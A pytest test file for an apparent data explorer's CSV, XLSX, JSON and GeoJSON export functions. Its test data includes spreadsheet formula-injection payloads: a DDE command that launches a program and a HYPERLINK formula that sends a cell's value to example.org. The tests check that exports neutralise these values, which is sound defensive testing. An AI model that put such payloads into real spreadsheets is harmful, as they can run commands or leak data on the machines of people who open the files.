import csv
import json
import time
from io import BytesIO, StringIO
from typing import Any
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import pytest

from teixit.explorer import files
from teixit.explorer.views import Asked, Cell, Evidence, Table, View

CELL = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"Gràcia")',
    "+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "--5",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\nx",
    "  =1",
    "\u202e=1",
    "\x01=1",
    "＝1",
]
HARMLESS = ["Gràcia", "", "-2", "-2.5", "3", "a=b", "l’economia", "\u202eabc", "1-2"]
EVIDENCE = Evidence("passage", "línia 55", "/ca/text/page#passage-55", "Impulsar")
ROWS = [
    [Cell("Gràcia", "/ca/about/district-06", evidence=(EVIDENCE,)), Cell("4,2", number=4.2)],
    [Cell("a<b>&\x01\ufffe"), Cell("-3", number=-3.0)],
    [Cell("=1"), Cell("")],
]
SQUARE = "POLYGON ((0 0, 0 1, 1 1, 1 0, 0 0))"
TABLE = Table("districts", "Districtes", ["Nom", "Àrea"], ROWS, [SQUARE, None, "POINT (NO)"])
OTHER = Table("n" * 40, "Altres", ["=Nom"], [])
VIEW = View(title="Mapa", summary="Això.", tables=[OTHER, TABLE], asked=[Asked("Què?", "ASK {}")])


def view(*tables: Table) -> View:
    return View(title="Mapa", summary="Això.", tables=tables)


def one(text: str) -> View:
    return view(Table("one", "Un", ["Nom"], [[Cell(text)]]))


def lines(found: bytes) -> list[list[str]]:
    assert found.startswith(b"\xef\xbb\xbf")
    return [*csv.reader(StringIO(found.decode("utf-8-sig"), newline=""))]


def sheets(found: bytes) -> dict[str, str]:
    with ZipFile(BytesIO(found)) as book:
        return {name: book.read(name).decode() for name in book.namelist()}


def test_csv_has_the_first_table() -> None:
    assert lines(files.of_csv(view(TABLE, OTHER))) == [
        ["Nom", "Àrea"],
        ["Gràcia", "4.2"],
        ["a<b>&\x01\ufffe", "-3"],
        ["'=1", ""],
    ]
    assert lines(files.of_csv(VIEW)) == [["'=Nom"]]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_csv_is_a_formula(text: str) -> None:
    assert lines(files.of_csv(one(text))) == [["Nom"], [f"'{text}"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_csv_leaves_other_texts_as_they_are(text: str) -> None:
    assert lines(files.of_csv(one(text))) == [["Nom"], [text]]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(text: str) -> None:
    book = sheets(files.of_xlsx(one(text)))
    assert not any("hyperlink" in part for part in book.values())
    sheet = ET.fromstring(book["xl/worksheets/sheet1.xml"])
    assert [*sheet.iter(f"{CELL}f")] == []
    assert {cell.get("t") for cell in sheet.iter(f"{CELL}c")} == {"s"}


def test_a_workbook_has_a_sheet_for_each_table_with_numbers_as_numbers() -> None:
    book = sheets(files.of_xlsx(VIEW))
    names = ET.fromstring(book["xl/workbook.xml"]).iter(f"{CELL}sheet")
    assert [sheet.get("name") for sheet in names] == ["n" * 31, "districts"]
    sheet = ET.fromstring(book["xl/worksheets/sheet2.xml"])
    cells = {cell.get("r"): cell for cell in sheet.iter(f"{CELL}c")}
    assert cells["B2"].findtext(f"{CELL}v") == "4.2"
    assert cells["B2"].get("t") is None
    texts = ET.fromstring(book["xl/sharedStrings.xml"]).iter(f"{CELL}t")
    assert "a<b>&_x0001__xFFFE_" in {text.text for text in texts}


def test_a_workbook_is_the_same_each_time() -> None:
    assert files.of_xlsx(VIEW) == files.of_xlsx(VIEW)


def test_json_has_all_of_the_view() -> None:
    found = json.loads(files.of_json(VIEW))
    assert found["title"] == "Mapa"
    assert found["asked"] == [{"title": "Què?", "text": "ASK {}"}]
    assert found["tables"][1]["rows"][0][0]["evidence"] == [
        {
            "voice": "passage",
            "name": "línia 55",
            "address": "/ca/text/page#passage-55",
            "sentence": "Impulsar",
            "confidence": None,
        }
    ]


def test_geojson_has_the_places() -> None:
    found: dict[str, Any] = json.loads(files.of_geojson(VIEW))
    assert found["type"] == "FeatureCollection"
    first, *others = found["features"]
    assert first["properties"] == {"Nom": "Gràcia", "Àrea": 4.2}
    assert first["geometry"]["type"] == "Polygon"
    # Against the clock, whatever the source does (RFC 7946, section 3.1.6).
    assert [*map(tuple, first["geometry"]["coordinates"][0])][:2] in (
        [(0, 0), (1, 0)],
        [(1, 0), (1, 1)],
        [(1, 1), (0, 1)],
        [(0, 1), (0, 0)],
    )
    assert [feature["geometry"] for feature in others] == [None, None]


@pytest.mark.parametrize(
    ("shown", "expected"),
    [
        (view(), ("json",)),
        (view(OTHER), ("csv", "xlsx", "json")),
        (VIEW, ("csv", "xlsx", "json", "geojson")),
    ],
)
def test_a_view_can_be_had_as_what_can_hold_it(shown: View, expected: tuple[str, ...]) -> None:
    assert files.offered(shown) == expected
    for name in expected:
        _, write = files.FILES[name]
        assert write(shown)


def test_a_file_is_the_same_each_time() -> None:
    for name in files.offered(VIEW):
        _, write = files.FILES[name]
        first = write(VIEW)
        time.sleep(1.1)  # a workbook tells seconds
        assert write(VIEW) == first
